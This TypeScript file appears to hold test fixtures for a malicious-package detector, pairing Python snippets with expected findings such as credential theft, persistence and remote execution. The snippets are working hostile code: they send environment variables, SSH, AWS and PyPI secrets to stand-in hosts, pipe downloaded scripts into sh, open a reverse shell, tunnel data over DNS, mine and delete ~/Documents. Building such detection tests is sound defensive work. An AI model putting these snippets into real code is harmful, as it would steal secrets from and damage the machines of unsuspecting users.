import type { Row } from './row.ts'

export const PYTHON_PRELUDE = `import base64, gzip, json, os, shutil, socket, subprocess, sys, time, urllib.request
home = os.path.expanduser('~')
def look(name):
    try:
        with open(os.path.join(home, name), 'rb') as f: return f.read()
    except OSError: return b''
def post(url, body):
    try: return urllib.request.urlopen(urllib.request.Request(url, data=body if isinstance(body, bytes) else body.encode(), method='POST'), timeout=8).read()
    except Exception: return b''
def get(url):
    try: return urllib.request.urlopen(url, timeout=8).read()
    except Exception: return b''
`

export const python: readonly Row[] = [
  { id: 'environment', at: 'install', finds: ['did-send-environment', 'did-send-secrets'], target: /collect\.drop/, code: `everything = json.dumps(dict(os.environ))
«post('http://collect.drop.example/e', everything)»` },
  { id: 'environment-base64', at: 'import', finds: ['did-send-environment', 'did-send-secrets'], target: /collect\.drop/, code: `packed = base64.b64encode(json.dumps(dict(os.environ)).encode())
«post('https://collect.drop.example/b', packed)»` },
  { id: 'pypi-token', at: 'install', finds: ['did-send-secrets'], target: /pypi-/, code: `text = look('.pypirc')
«post('https://collect.drop.example/p', text)»` },
  { id: 'ssh-key', at: 'import', finds: ['did-read-credentials'], target: /\.ssh/, code: `for name in ('id_ed25519', 'id_rsa'):
    try: «open(os.path.join(home, '.ssh', name)).read()»
    except OSError: pass` },
  { id: 'ssh-key-sent', at: 'call', finds: ['did-send-secrets'], target: /ssh-/, code: `key = look('.ssh/id_ed25519') + look('.ssh/id_rsa')
«post('http://collect.drop.example/s', gzip.compress(key))»` },
  { id: 'aws-keys', at: 'import', finds: ['did-send-secrets'], target: /aws-/, code: `keys = look('.aws/credentials').hex()
«post('https://collect.drop.example/a', keys)»` },
  { id: 'many-credentials', at: 'install', finds: ['did-read-credentials'], target: /credentials/, code: `for name in ('.aws/credentials', '.docker/config.json', '.kube/config', '.netrc', '.git-credentials'):
    «look(name)»` },
  { id: 'wallet', at: 'import', finds: ['did-read-wallets'], target: /wallet/i, code: `for folder in ('.electrum/wallets', '.config/Exodus/exodus.wallet', '.bitcoin'):
    where = os.path.join(home, folder)
    for name in os.listdir(where) if os.path.isdir(where) else []:
        «look(os.path.join(folder, name))»` },
  { id: 'browser', at: 'install', finds: ['did-read-browser-data'], target: /browser|Login Data/, code: `for name in ('Login Data', 'Cookies'):
    «look('.config/google-chrome/Default/' + name)»` },
  { id: 'discord', at: 'import', finds: ['did-read-messenger-tokens'], target: /messenger|discord/, code: `where = os.path.join(home, '.config/discord/Local Storage/leveldb')
for name in os.listdir(where) if os.path.isdir(where) else ['000003.log']:
    «look('.config/discord/Local Storage/leveldb/' + name)»` },
  { id: 'download-run', at: 'install', finds: ['did-download-and-run'], target: /cdn\.drop/, code: `text = get('http://cdn.drop.example/agent.sh') or b'true'
with open('/tmp/agent.sh', 'wb') as f: f.write(text)
«subprocess.call(['/bin/sh', '/tmp/agent.sh'])»` },
  { id: 'curl-pipe', at: 'import', finds: ['did-download-and-run'], target: /cdn\.drop/, code: `«os.system('curl -s http://cdn.drop.example/x.sh | sh')»` },
  { id: 'unseen-install', at: 'install', finds: ['did-run-unseen-install'], target: /helper-lib-example/, code: `«subprocess.call([sys.executable, '-m', 'pip', 'install', '--retries', '0', 'helper-lib-example'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)»` },
  { id: 'bashrc', at: 'install', finds: ['did-persist'], target: /\.bashrc/, code: `with «open(os.path.join(home, '.bashrc'), 'a')» as f: f.write('# start\\n')` },
  { id: 'autostart', at: 'call', finds: ['did-persist'], target: /autostart/, code: `os.makedirs(os.path.join(home, '.config/autostart'), exist_ok=True)
with «open(os.path.join(home, '.config/autostart/sync.desktop'), 'w')» as f: f.write('[Desktop Entry]\\n')` },
  { id: 'pip-setting', at: 'import', finds: ['did-change-settings'], target: /pip\.conf|settings/, code: `os.makedirs(os.path.join(home, '.config/pip'), exist_ok=True)
with «open(os.path.join(home, '.config/pip/pip.conf'), 'w')» as f: f.write('[global]\\nindex-url = http://registry.drop.example/\\n')` },
  { id: 'ping', at: 'install', finds: ['did-speak-to-strangers'], target: /c2\.drop/, code: `«get('http://c2.drop.example/ping')»` },
  { id: 'raw-address', at: 'import', finds: ['did-speak-to-strangers'], target: /203[[.\]]+0[[.\]]+113/, code: `s = socket.socket()
s.settimeout(4)
try:
    «s.connect(('203.0.113.77', 4444))»
    s.sendall(b'hello')
except OSError: pass` },
  { id: 'delete-documents', at: 'call', finds: ['did-destroy'], target: /Documents/, code: `where = os.path.join(home, 'Documents')
for name in os.listdir(where):
    one = os.path.join(where, name)
    «shutil.rmtree(one) if os.path.isdir(one) else os.unlink(one)»` },
  { id: 'metadata', at: 'install', finds: ['did-ask-cloud-identity'], target: /169|cloud/, code: `«get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')»` },
  { id: 'memory', at: 'import', finds: ['did-run-from-memory'], target: /memory/, code: `fd = os.memfd_create('x')
os.write(fd, open('/bin/true', 'rb').read())
«subprocess.call(['/proc/self/fd/%d' % fd], pass_fds=[fd])»` },
  { id: 'mine', at: 'call', finds: ['did-mine'], target: /pool\.drop/, code: `s = «socket.create_connection»(('pool.drop.example', 3333), 5)
«s.sendall(b'{"id":1,"method":"mining.subscribe","params":["cpu/1.0"]}\\n')»
s.close()` },
  { id: 'dns-tunnel', at: 'import', finds: ['did-tunnel-dns', 'did-send-secrets', 'did-profile-host'], target: /drop\.example/, code: `text = (socket.gethostname() + ':' + os.path.basename(home) + ':' + os.getcwd() + ':' + sys.version[:20]).encode().hex()
for at in range(0, len(text), 48):
    try: «socket.getaddrinfo(text[at:at + 48] + '.%d.t.drop.example' % at, 80)»
    except OSError: pass` },
  { id: 'reverse-shell', at: 'install', finds: ['did-open-reverse-shell'], target: /shell/, code: `s = socket.socket()
s.settimeout(4)
try:
    s.connect(('203.0.113.78', 4445))
    «p = subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())»
    time.sleep(0.4)
    p.kill()
except OSError: pass` },
  { id: 'orders', at: 'import', finds: ['did-take-commands'], target: /c2\.drop/, code: `get('http://c2.drop.example/task')
«os.system('id > /dev/null')»` },
  { id: 'clipboard', at: 'import', finds: ['did-spy'], target: /clipboard/, code: `try: «subprocess.call(['xclip', '-selection', 'clipboard', '-o'])»
except OSError: pass` },
  { id: 'host-facts', at: 'install', finds: ['did-profile-host'], target: /name of the machine|facts/, code: `facts = {'host': socket.gethostname(), 'user': os.path.basename(home), 'cwd': os.getcwd()}
«post('http://collect.drop.example/h', json.dumps(facts))»` },
  { id: 'sandbox-check', at: 'import', finds: ['did-detect-sandbox'], target: /watched/, code: `def ask(name):
    try: return «open(name).read()»
    except OSError: return ''
for name in ('/proc/self/status', '/sys/class/dmi/id/product_name', '/.dockerenv', '/proc/1/cgroup'): ask(name)` },
  { id: 'drop-program', at: 'import', finds: ['did-drop-program'], target: /program|\.sysd/, code: `where = os.path.join(home, '.local/share/.sysd')
os.makedirs(where, exist_ok=True)
with open(where + '/run', 'wb') as f: f.write(base64.b64decode('IyEvYmluL3NoCnRydWUK'))
os.chmod(where + '/run', 0o755)
«subprocess.call([where + '/run'])»` },
  { id: 'trace', at: 'import', finds: ['did-inject-process', 'did-try-forbidden', 'did-detect-sandbox'], target: /process|ptrace|tried/, code: `import ctypes
lib = ctypes.CDLL(None)
«lib.ptrace(16, os.getppid(), 0, 0)»
lib.syscall(425, 8, 0)` },
  { id: 'start-file', at: 'install', finds: ['did-persist'], target: /\.pth|starts by itself/, code: `import site
where = next((p for p in [os.path.join(os.environ.get('VIRTUAL_ENV', ''), 'lib', 'python%d.%d' % sys.version_info[:2], 'site-packages')] if os.path.isdir(p)), '/tmp')
with «open(os.path.join(where, 'helper.pth'), 'w')» as f: f.write('import os\\n')` },
  { id: 'command', at: 'command', finds: ['did-send-secrets'], target: /pypi-|aws-/, code: `text = look('.pypirc') + look('.aws/credentials')
«post('https://collect.drop.example/c', text)»` },
]
